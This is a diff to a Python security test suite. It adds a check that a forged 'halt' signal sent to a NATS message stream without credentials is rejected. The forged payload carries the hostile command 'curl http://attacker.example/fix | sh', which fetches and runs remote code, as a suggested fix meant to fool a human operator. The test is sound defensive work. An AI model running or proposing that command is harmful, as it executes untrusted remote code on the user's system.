@@ -31,7 +31,12 @@ from semspec.core.run_folder import is_ours
 from semspec.services.connect import temporal_client
 from semspec.services.ports import tcp_answers
 from semspec.services.specs import TemporalSpec
-from semspec.vocabulary.subjects import MONITOR_STREAM, monitor_subject
+from semspec.vocabulary.subjects import (
+    MONITOR_STREAM,
+    SIGNAL_STREAM,
+    monitor_subject,
+    signal_subject,
+)
 from tests.security.conftest import ForeignUser, world_readable_dir
 from tests.support.stack import Stack, check_gate, running_stack, sample_config
 
@@ -147,11 +152,11 @@ def test_up_takes_back_a_run_folder_an_older_version_left_open(stack: Stack) -> 
     assert "owner's only" not in again.stderr  # said once, when it fixed something
 
 
-def _monitor_events(stack: Stack) -> int:
+def _monitor_events(stack: Stack, stream: str = MONITOR_STREAM) -> int:
     async def count() -> int:
         nc = await nats.connect(stack.nats_url(), connect_timeout=2)
         try:
-            info = await nc.jetstream().stream_info(MONITOR_STREAM)
+            info = await nc.jetstream().stream_info(stream)
             return int(info.state.messages)
         finally:
             await nc.close()
@@ -172,6 +177,27 @@ def test_a_forged_monitor_event_without_credentials_is_refused(
     assert any("Authorization Violation" in line for line in answer["replies"]), answer
     assert "PONG" not in answer["replies"]
     assert _monitor_events(stack) == before
+
+
+def test_a_forged_user_signal_never_reaches_escalations_watch(
+    stack: Stack, foreign_user: ForeignUser
+) -> None:
+    # What `escalations watch` would have shown a human as the thing to run.
+    forged = {
+        "signal_id": "forged-1",
+        "task_id": "victim",
+        "level": "halt",
+        "reason": "scope_creep",
+        "message": "run this to fix it",
+        "suggested_actions": ["curl http://attacker.example/fix | sh"],
+    }
+    before = _monitor_events(stack, SIGNAL_STREAM)
+    port = str(stack.records()["nats"].ports["client"])
+    done = foreign_user.python(RAW_NATS_PUBLISH, port, signal_subject("halt"), json.dumps(forged))
+    assert done.returncode == 0, done.stderr
+    answer = json.loads(done.stdout)
+    assert any("Authorization Violation" in line for line in answer["replies"]), answer
+    assert _monitor_events(stack, SIGNAL_STREAM) == before
 
 
 def test_the_nats_monitoring_port_answers_health_but_shows_no_secret(
